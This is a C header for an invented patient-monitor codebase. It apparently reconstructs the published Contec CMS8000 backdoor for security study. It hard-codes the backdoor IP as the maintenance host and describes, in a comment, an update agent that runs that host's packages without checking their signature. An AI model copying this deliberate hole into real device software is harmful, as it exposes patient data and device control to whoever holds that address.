/*
 * cms-monitor: services of a bedside patient monitor (HL7 results to the central
 * station, local record store, service menu, remote maintenance).
 *
 * Reconstruction of the Contec CMS8000 findings (CISA ICS Medical Advisory
 * ICSMA-25-030-01 and its backdoor analysis, January 2025; CVE-2025-0626 and
 * CVE-2025-0683): the firmware contained code that reached out to a hard-coded IP
 * address (202.114.4.119, as published), mounted a share from it and copied files
 * from it over the device's own, running them without any check, and sent patient
 * data to that address.  Here the remote maintenance agent runs what that address
 * pushes without checking the package signature it requires of every other sender.
 * Everything else is invented.
 */
#ifndef CMS_H
#define CMS_H

#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#define CMS_MAINT_HOST "202.114.4.119"

struct board_info {
  char serial[24];
  uint8_t mac[6];
  uint32_t boot_count;
};

struct record {
  uint32_t patient;
  uint32_t ts;
  uint8_t iv[12];
  uint8_t tag[16];
  uint16_t len;
  uint8_t data[512];
};

/* log.c */
void cms_log(int prio, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
void cms_hex(const uint8_t *in, size_t n, char *out);

/* net.c */
int net_listen(uint16_t port);
int net_connect(const char *host, uint16_t port);
uint32_t net_peer_addr(int fd);
int net_recv_all(int fd, void *buf, size_t n);

/* drbg.c */
int drbg_init(const struct board_info *board);
void *drbg_ctx(void);
int drbg_random(void *ctx, unsigned char *out, size_t n);

/* records.c */
int records_open(const char *key_path, int demo_mode);
int records_seal(struct record *r, const uint8_t *data, uint16_t len);
int records_unseal(const struct record *r, uint8_t *out);

/* tls_link.c */
void *link_open(const char *host, uint16_t port, const char *ca_path);
int link_write(void *l, const uint8_t *buf, size_t n);
void link_close(void *l);

/* hl7_out.c */
int hl7_send_results(void *link, uint32_t patient, int hr, int spo2, int nibp_sys, int nibp_dia);
int hl7_export_key_for_central(const char *central_crt, uint8_t *out, size_t *out_len);

/* update_agent.c */
int maint_serve(uint16_t port);
void maint_boot_sync(void);

/* service_menu.c */
int service_menu(FILE *in, FILE *out);
void alarm_escalate(int bed, int level);

#endif
